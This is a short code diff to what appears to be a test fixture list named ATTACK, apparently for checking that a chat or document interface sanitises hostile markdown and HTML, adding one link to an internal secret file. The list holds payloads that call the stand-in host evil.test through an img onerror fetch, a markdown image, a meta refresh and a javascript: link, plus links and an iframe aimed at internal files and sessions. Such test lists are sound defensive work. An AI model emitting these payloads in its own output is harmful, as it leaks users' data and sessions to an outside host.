@@ -18,6 +18,7 @@ export const ATTACK = [
   '<img src="https://evil.test/?html" onerror="fetch(\'https://evil.test/?onerror\')">',
   '![elsewhere](https://evil.test/?image)',
   '![here](/api/files/0199-secret)',
+  '[policy.pdf, p. 2](/knowledge/0199-secret#p2)',
   '<meta http-equiv="refresh" content="0;url=https://evil.test/?meta">',
   '<iframe src="/api/sessions"></iframe>',
   '[click](javascript:fetch("https://evil.test/?js"))',
